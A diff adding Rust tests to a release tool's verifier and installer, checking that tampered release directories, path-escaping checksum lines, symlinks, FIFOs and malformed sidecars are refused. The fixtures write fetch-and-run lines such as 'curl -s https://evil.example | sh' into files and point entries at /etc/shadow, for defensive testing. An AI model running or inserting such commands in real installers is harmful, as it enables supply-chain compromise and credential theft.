@@ -414,6 +414,140 @@ fn a_leftover_partial_file_fails_verify() {
     );
 }
 
+/// `verify` run on `copy`'s release directory, stopped if it takes over a
+/// minute: a FIFO must not make it wait for a writer.
+fn verify_copy(copy: &Path) -> Output {
+    Command::new("timeout")
+        .arg("60")
+        .arg(env!("CARGO_BIN_EXE_xtask"))
+        .arg("verify")
+        .current_dir(&dist_run().ws)
+        .env("CARGO_TARGET_DIR", copy)
+        .output()
+        .expect("run timeout xtask verify")
+}
+
+fn sha256_hex(bytes: &[u8]) -> String {
+    use sha2::Digest;
+    sha2::Sha256::digest(bytes)
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect()
+}
+
+/// Replaces every `from` with `to` in the text file `path`.
+fn replace_in(path: &Path, from: &str, to: &str) {
+    let text = fs::read_to_string(path).unwrap();
+    assert!(text.contains(from), "{} lacks {from}", path.display());
+    fs::write(path, text.replace(from, to)).unwrap();
+}
+
+/// A release directory changed by someone who can write to it, checksums
+/// and all: verify names each change, reads nothing a link or a checksum
+/// line points at outside the directory, and never waits on a FIFO.
+#[test]
+fn a_release_directory_changed_after_dist_fails_verify_naming_each_change() {
+    type Change = fn(&Path);
+    let zeros = "0".repeat(64);
+    let add_line = |dist: &Path, line: String| {
+        let sums = dist.join("SHA256SUMS");
+        let mut text = fs::read_to_string(&sums).unwrap();
+        text.push_str(&line);
+        fs::write(&sums, text).unwrap();
+    };
+    let cases: [(&str, Change, &str); 7] = [
+        (
+            "sums-escape",
+            |_| {},
+            "SHA256SUMS: names `../../etc/shadow`, which is not a plain file name",
+        ),
+        (
+            "sums-fifo",
+            |dist| {
+                let ok = Command::new("mkfifo")
+                    .arg(dist.join("notes.txt"))
+                    .status()
+                    .unwrap();
+                assert!(ok.success());
+            },
+            "notes.txt: listed in SHA256SUMS but it is not a regular file",
+        ),
+        (
+            "sums-symlink",
+            |dist| std::os::unix::fs::symlink("/etc/shadow", dist.join("notes.txt")).unwrap(),
+            "notes.txt: listed in SHA256SUMS but it is a symbolic link",
+        ),
+        (
+            "unlisted",
+            |dist| fs::write(dist.join("evil.sh"), "curl evil | sh\n").unwrap(),
+            "evil.sh: is in",
+        ),
+        (
+            "installer",
+            |dist| {
+                // Changed, and every checksum that names it changed to match.
+                let path = dist.join(format!("{PACKAGE}-installer.sh"));
+                let before = fs::read(&path).unwrap();
+                let mut after = before.clone();
+                after.extend_from_slice(b"curl -s https://evil.example | sh\n");
+                fs::write(&path, &after).unwrap();
+                let (old, new) = (sha256_hex(&before), sha256_hex(&after));
+                for file in ["SHA256SUMS", "dist-manifest.json"] {
+                    replace_in(&dist.join(file), &old, &new);
+                }
+                replace_in(
+                    &dist.join(format!("{PACKAGE}-installer.sh.sha256")),
+                    &old,
+                    &new,
+                );
+                let size = |n: usize| format!("\"size\": {n}");
+                replace_in(
+                    &dist.join("dist-manifest.json"),
+                    &size(before.len()),
+                    &size(after.len()),
+                );
+            },
+            "differs from the installer dist-workspace.toml generates",
+        ),
+        (
+            "sidecar-two-lines",
+            |dist| {
+                let sidecar = dist.join(format!("{}.sha256", archive_name()));
+                let mut text = fs::read_to_string(&sidecar).unwrap();
+                text.push_str(&format!("{}  other.tar.xz\n", "1".repeat(64)));
+                fs::write(&sidecar, text).unwrap();
+            },
+            "must hold one line",
+        ),
+        (
+            "sidecar-other-name",
+            |dist| {
+                let sidecar = dist.join(format!("{}.sha256", archive_name()));
+                replace_in(&sidecar, &archive_name(), "other.tar.xz");
+            },
+            "names `other.tar.xz`",
+        ),
+    ];
+    for (name, change, expect) in cases {
+        let copy = dist_copy(&format!("changed-{name}"));
+        let dist = copy.join("dist");
+        change(&dist);
+        match name {
+            "sums-escape" => add_line(&dist, format!("{zeros}  ../../etc/shadow\n")),
+            "sums-fifo" | "sums-symlink" => add_line(&dist, format!("{zeros}  notes.txt\n")),
+            _ => {}
+        }
+        let out = verify_copy(&copy);
+        let stderr = text(&out.stderr);
+        assert_eq!(out.status.code(), Some(1), "{name}: {stderr}");
+        assert!(
+            stderr.contains(expect),
+            "{name}: expected `{expect}` in:\n{stderr}"
+        );
+        assert!(!stderr.contains("panicked"), "{name}: {stderr}");
+    }
+}
+
 #[test]
 fn another_checkout_path_gives_identical_archives() {
     let run = dist_run();
@@ -483,13 +617,31 @@ fn verify_explains_bad_paths_without_panicking() {
     fs::write(&truncated, &elf[..300]).unwrap();
     let text_file = dir.join("notes.txt");
     fs::write(&text_file, "hello, this is not a program\n").unwrap();
+    let fifo = dir.join("fifo");
+    let _ = fs::remove_file(&fifo);
+    assert!(
+        Command::new("mkfifo")
+            .arg(&fifo)
+            .status()
+            .unwrap()
+            .success()
+    );
     for (path, expect) in [
         (truncated.as_path(), "truncated"),
         (text_file.as_path(), "not an executable"),
         (dir.as_path(), "is a directory"),
         (Path::new("/no/such/file"), "cannot be read"),
+        // Neither is read: one never ends, the other waits for a writer.
+        (Path::new("/dev/zero"), "is not a regular file"),
+        (fifo.as_path(), "is not a regular file"),
     ] {
-        let out = xtask(&dir, &dir, &["verify", path.to_str().unwrap()]);
+        let out = Command::new("timeout")
+            .arg("60")
+            .arg(env!("CARGO_BIN_EXE_xtask"))
+            .args(["verify", path.to_str().unwrap()])
+            .current_dir(&dir)
+            .output()
+            .unwrap();
         assert_eq!(out.status.code(), Some(1), "{}", path.display());
         let stderr = text(&out.stderr);
         assert!(
@@ -548,6 +700,27 @@ fn config_mistakes_exit_2_with_one_line_and_write_nothing() {
         ws.join("dist-workspace.toml"),
     )
     .unwrap();
+    // A date no tar header can hold: refused before anything is built.
+    for (date, expect) in [
+        ("99999999999", "is later than any tar can date a file"),
+        ("yesterday", "is not a whole number of seconds"),
+    ] {
+        let out = Command::new(env!("CARGO_BIN_EXE_xtask"))
+            .arg("dist")
+            .current_dir(&ws)
+            .env("CARGO_TARGET_DIR", &target_dir)
+            .env("SOURCE_DATE_EPOCH", date)
+            .output()
+            .unwrap();
+        let stderr = text(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{date}: {stderr}");
+        assert!(
+            stderr.contains(&format!("SOURCE_DATE_EPOCH: `{date}` {expect}")),
+            "{date}: {stderr}"
+        );
+        assert_eq!(stderr.trim().lines().count(), 1, "{stderr}");
+        assert!(!target_dir.join("dist").exists(), "{date}: wrote output");
+    }
     let out = xtask(
         &ws,
         &target_dir,
@@ -599,6 +772,18 @@ impl Install {
 
 /// Runs the installer from `dist` (served at `url`) with `path` as PATH.
 fn install(name: &str, dist: &Path, url: &str, path: &Path, args: &[&str]) -> Install {
+    install_with_env(name, dist, url, path, args, &[])
+}
+
+/// As [`install`], with more environment variables.
+fn install_with_env(
+    name: &str,
+    dist: &Path,
+    url: &str,
+    path: &Path,
+    args: &[&str],
+    env: &[(&str, &str)],
+) -> Install {
     let home = e2e_dir(name).join("home");
     let _ = fs::remove_dir_all(&home);
     fs::create_dir_all(&home).unwrap();
@@ -609,6 +794,7 @@ fn install(name: &str, dist: &Path, url: &str, path: &Path, args: &[&str]) -> In
         .env("HOME", &home)
         .env("PATH", path)
         .env("FIXTURE_GREETER_DOWNLOAD_URL", url)
+        .envs(env.iter().copied())
         .output()
         .unwrap();
     Install { out, home }
@@ -687,6 +873,44 @@ fn the_installer_refuses_a_tampered_archive_and_installs_nothing() {
         run.stderr()
     );
     run.assert_nothing_installed();
+}
+
+#[test]
+fn the_installer_refuses_a_sidecar_of_more_than_one_line() {
+    let copy = dist_copy("install-two-lines");
+    let dist = copy.join("dist");
+    // The first line is right; a second names the same archive with other bytes.
+    let sidecar = dist.join(format!("{}.sha256", archive_name()));
+    let mut text = fs::read_to_string(&sidecar).unwrap();
+    text.push_str(&format!("{}  {}\n", "1".repeat(64), archive_name()));
+    fs::write(&sidecar, text).unwrap();
+    let url = serve(&dist);
+    let path = tools_path("install-two-lines", &["curl", "sha256sum"], &[]);
+    let run = install("install-two-lines", &dist, &url, &path, &[]);
+    assert_eq!(run.out.status.code(), Some(1), "{}", run.stderr());
+    assert!(
+        run.stderr().contains("does not hold one line"),
+        "{}",
+        run.stderr()
+    );
+    run.assert_nothing_installed();
+}
+
+#[test]
+fn the_installer_works_when_tmpdir_is_not_writable() {
+    let dist = dist_run().target_dir.join("dist");
+    let url = serve(&dist);
+    let path = tools_path("install-tmpdir", &["curl", "sha256sum"], &[]);
+    let run = install_with_env(
+        "install-tmpdir",
+        &dist,
+        &url,
+        &path,
+        &[],
+        &[("TMPDIR", "/nonexistent/tmp")],
+    );
+    assert_ok("installer with TMPDIR=/nonexistent/tmp", &run.out);
+    assert!(run.bin_dir().join(BIN).is_file(), "{}", run.stderr());
 }
 
 #[test]
